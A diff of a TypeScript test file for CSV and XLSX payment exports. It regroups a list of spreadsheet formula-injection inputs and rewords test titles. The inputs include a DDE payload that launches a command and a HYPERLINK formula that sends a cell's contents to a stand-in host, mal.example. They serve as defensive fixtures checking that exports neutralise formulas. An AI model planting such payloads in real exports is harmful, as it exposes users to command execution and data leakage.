@@ -13,20 +13,15 @@ const plain: ExportRow = {
 };
 
 const HOSTILE = [
+  ...["=1+1", "+57 300 123 4567", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "'=1"],
   ...[
-    "=1+1",
-    "+57 300 123 4567",
-    "-1",
-    "@SUM(A1)",
-    "\tx",
-    "\rx",
-    "\nx",
-    "  =1+1",
-    "＝1+1",
-    "'=1",
     "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://mal.example?"&A1;"clic")',
+    'a "b"; c, d',
+    "uno\ndos",
+    " espacios ",
+    "<b>&amp;</b>",
   ],
-  ...['=HYPERLINK("http://mal.example?"&A1;"clic")', 'a "b"; c, d', "uno\ndos", " espacios ", "<b>&amp;</b>"],
   ...["😀 Zoë", "_x0041_"],
 ];
 const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
@@ -48,7 +43,7 @@ const sheetsOf = async (file: Promise<Blob>) =>
   readExcelFile(Buffer.from(await (await file).arrayBuffer()), { trim: false });
 const readXlsx = async (of: ExportRow[]) => (await sheetsOf(paymentsXlsx(of)))[0]?.data ?? [];
 
-test("another program reads a CSV unchanged: titles, texts and sums", async () => {
+test("a CSV that another library reads has the same titles, texts and sums", async () => {
   const { text, lines } = await readCsv(paymentsCsv(rows));
   expect(text.startsWith("\uFEFFFecha;Recibo;Cliente;Documento;")).toBe(true);
   expect(text.endsWith("\r\n")).toBe(true);
@@ -64,7 +59,7 @@ test("another program reads a CSV unchanged: titles, texts and sums", async () =
   expect(column("receipt")[1]).toBe("");
 });
 
-test("no formula is left in a CSV, and no other text changes", async () => {
+test("a CSV marks texts that a spreadsheet would run as formulas with an apostrophe, and changes no others", async () => {
   const { lines } = await readCsv(paymentsCsv(rows));
   for (const [index, hostile] of HOSTILE.entries()) {
     const written = lines[index + 3]?.[2];
@@ -73,7 +68,7 @@ test("no formula is left in a CSV, and no other text changes", async () => {
   }
 });
 
-test("another program reads an XLSX unchanged: dates, numbers, texts and sums", async () => {
+test("an XLSX that another library reads has the same dates, numbers, texts and sums", async () => {
   const [titles, first, second, ...hostile] = await readXlsx(rows);
   expect(titles).toEqual(COLUMNS.map(({ title }) => title));
   const cells = Object.values(plain).map((value) => (value === "" ? null : value));
@@ -87,7 +82,7 @@ test("another program reads an XLSX unchanged: dates, numbers, texts and sums", 
   }
 });
 
-test("characters that no cell can hold are dropped", async () => {
+test("characters that a cell cannot hold are dropped, and texts are cut at 32,767 characters", async () => {
   const broken = { ...plain, client: "a\u0000b\u0001\uD800c\uFFFF", concept: "x".repeat(40_000) };
   const [, line] = await readXlsx([broken]);
   expect(line?.[2]).toBe("abc");
@@ -95,7 +90,7 @@ test("characters that no cell can hold are dropped", async () => {
   expect((await readCsv(paymentsCsv([broken]))).lines[1]?.[2]).toBe("abc");
 });
 
-test("only titles are written if there are no payments", async () => {
+test("a file without payments has only the row of titles", async () => {
   expect((await readCsv(paymentsCsv([]))).lines).toHaveLength(1);
   expect(await readXlsx([])).toHaveLength(1);
 });
@@ -111,14 +106,14 @@ const table: Table = {
 };
 const TITLES = ["Fecha", "Nota", "Valor"];
 
-test("tables are written as CSV, each under its title, without formulas", async () => {
+test("a CSV has each table under its title, without formulas", async () => {
   const { text } = await readCsv(tablesCsv([table, { ...table, title: "Otra" }]));
   const lines = parse<string[]>(text.slice(1), { delimiter: ";" }).data;
   const cells = [TITLES, ["2026-11-03", "'=1+1", "1200000"], ["", "Total", "-50000"], [""]];
   expect(lines).toEqual([["Gastos"], ...cells, ["Otra"], ...cells]);
 });
 
-test("tables are put on their own sheets after the payments", async () => {
+test("an XLSX has each table on a sheet of its own after the payments", async () => {
   const [payments, sheet] = await sheetsOf(paymentsXlsx([], [table]));
   expect([payments?.sheet, payments?.data.length, sheet?.sheet]).toEqual(["Pagos", 1, "Gastos"]);
   const cells = [new Date("2026-11-03T00:00:00Z"), "=1+1", 1_200_000];
